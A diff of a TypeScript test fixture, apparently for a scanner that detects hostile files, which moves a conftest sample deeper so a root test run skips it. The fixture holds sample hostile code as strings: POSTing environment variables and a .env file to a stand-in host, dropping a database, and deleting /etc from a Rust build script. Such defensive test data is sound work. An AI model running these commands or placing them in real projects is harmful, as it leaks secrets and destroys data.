@@ -59,8 +59,9 @@ const files: Readonly<Record<string, string>> = {
   'scripts/drops-database.py': 'import psycopg2\npsycopg2.connect("").cursor().execute("DROP DATABASE shop")\n',
   'scripts/sends-environment.js': "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })\n",
   'scripts/sends-key.py': 'import requests\nrequests.post("https://x.example", data=open(".env").read())\n',
-  'scan/conftest/conftest.py': burnPython,
-  'scan/conftest/test_a.py': 'def test_a():\n    assert True\n',
+  // so deep that a run of all tests from the root does not come to it
+  'scan/python/conftest/conftest.py': burnPython,
+  'scan/python/conftest/test_a.py': 'def test_a():\n    assert True\n',
   'scan/setup/setup.py': `${burnPython}from setuptools import setup\nsetup()\n`,
   'scan/build-rs/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\n',
   'scan/build-rs/build.rs': 'use std::process::Command;\nfn main() {\n    Command::new("rm").args(["-rf", "/etc"]).status().unwrap();\n}\n',
